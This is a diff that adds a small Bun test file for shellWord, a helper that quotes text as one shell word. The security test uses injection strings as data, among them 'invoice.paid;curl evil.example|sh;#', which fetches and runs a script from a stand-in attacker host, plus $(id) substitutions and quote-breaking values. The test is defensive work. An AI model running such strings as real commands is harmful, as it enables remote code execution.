@@ -1,0 +1,21 @@
+import { expect, test } from 'bun:test'
+import { $ } from 'bun'
+
+const page = './page/dom.js' // Not TypeScript.
+const { shellWord } = (await import(page)) as { shellWord: (text: string) => string }
+
+test.each(['pay_Zk3nT0a7yQm1c5VbXw9uRd', '0x12:3', 'invoice.paid'])('%s stays as it is', (id) => {
+  expect(shellWord(id)).toBe(id)
+})
+
+test.each([
+  'invoice.paid;curl evil.example|sh;#',
+  "it's $(id) `id`",
+  "'; id; '",
+  'a b\nc',
+  '-- --help',
+  '',
+])('security: %j is one word of a command in a shell', async (text) => {
+  const words = await $`sh -c ${`printf '%s|' ${shellWord(text)}`}`.text()
+  expect(words).toBe(`${text}|`)
+})
